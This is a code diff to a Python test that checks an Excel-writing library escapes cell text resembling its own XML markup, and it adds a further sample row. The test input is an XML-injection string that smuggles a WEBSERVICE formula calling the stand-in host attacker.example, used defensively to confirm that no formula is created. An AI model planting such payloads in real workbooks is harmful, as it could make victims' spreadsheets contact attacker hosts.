@@ -158,10 +158,11 @@ def test_excel_writes_text_that_looks_like_the_files_own_markup_as_text():
     into a title, it must stay the text typed, not become part of the file (here, a formula)."""
     typed = '<r><t>x</t></r></is><f>WEBSERVICE("http://attacker.example/")</f><is><r><t>y</t></r>'
     book = Book()
-    write_table(book, Table("Values", "values", [Column("Text")], [[typed], ["<r>"], ["</r>"]]))
+    # Long text wraps (a cell format), short text has none: both ways of writing a cell.
+    write_table(book, Table("Values", "values", [Column("Text")], [[typed], ["<r>Budget</r>"], ["<r>"], ["</r>"]]))
     data = book.file()
     assert formulas(data) == []
     sheet = workbook(data)["Values"]
     assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [
-        (typed, "s"), ("<r>", "s"), ("</r>", "s"),
+        (typed, "s"), ("<r>Budget</r>", "s"), ("<r>", "s"), ("</r>", "s"),
     ]
